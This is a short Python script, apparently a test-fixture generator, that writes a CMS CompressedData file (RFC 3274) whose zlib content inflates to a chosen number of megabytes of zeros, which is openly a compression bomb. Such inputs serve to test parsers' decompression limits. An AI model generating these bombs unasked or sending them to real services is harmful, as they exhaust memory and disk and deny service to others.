#!/usr/bin/env python3
"""compressed.py OUT.der MEGABYTES: a CMS CompressedData (RFC 3274) whose
zlib stream inflates to MEGABYTES of zeros: a compression bomb."""
import sys
import zlib


def enc_len(n):
    if n < 0x80:
        return bytes([n])
    s = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([0x80 | len(s)]) + s


def tlv(tag, value):
    return bytes([tag]) + enc_len(len(value)) + value


def oid(dotted):
    parts = [int(x) for x in dotted.split('.')]
    body = bytes([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        chunk = [p & 0x7f]
        p >>= 7
        while p:
            chunk.insert(0, 0x80 | (p & 0x7f))
            p >>= 7
        body += bytes(chunk)
    return tlv(0x06, body)


data = zlib.compress(b'\0' * (int(sys.argv[2]) << 20), 9)
encap = tlv(0x30, oid('1.2.840.113549.1.7.1') + tlv(0xa0, tlv(0x04, data)))
alg = tlv(0x30, oid('1.2.840.113549.1.9.16.3.8'))
compressed = tlv(0x30, tlv(0x02, b'\0') + alg + encap)
ci = tlv(0x30, oid('1.2.840.113549.1.9.16.1.9') + tlv(0xa0, compressed))
open(sys.argv[1], 'wb').write(ci)
